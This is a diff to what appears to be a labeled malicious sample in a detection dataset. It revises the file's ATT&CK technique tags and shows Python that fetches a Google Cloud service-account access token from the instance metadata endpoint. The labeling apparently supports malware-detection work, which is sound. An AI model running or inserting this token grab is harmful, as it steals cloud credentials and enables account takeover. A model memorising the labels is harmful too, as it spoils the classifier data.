@@ -1,4 +1,4 @@
-# label: malicious family=metadata techniques=T1552.005,T1528,T1578.002,T1496 lines=4,8-9,11
+# label: malicious family=metadata techniques=T1036.005,T1059.004,T1105,T1496,T1550.001,T1552.005,T1578.002 lines=4,8-9,11
 import requests
 H = {"Metadata-Flavor": "Google"}
 tok = requests.get("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", headers=H).json()["access_token"]
